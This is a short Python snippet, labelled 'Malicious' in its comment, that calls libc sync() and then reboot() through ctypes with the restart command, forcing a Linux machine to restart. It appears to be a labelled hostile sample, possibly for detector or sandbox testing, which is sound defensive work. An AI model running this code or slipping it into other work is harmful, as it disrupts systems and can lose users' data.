# Malicious: calls the reboot(2) syscall wrapper through ctypes with LINUX_REBOOT_CMD_RESTART.
import ctypes

libc = ctypes.CDLL(None)
libc.sync()
libc.reboot(0x01234567)
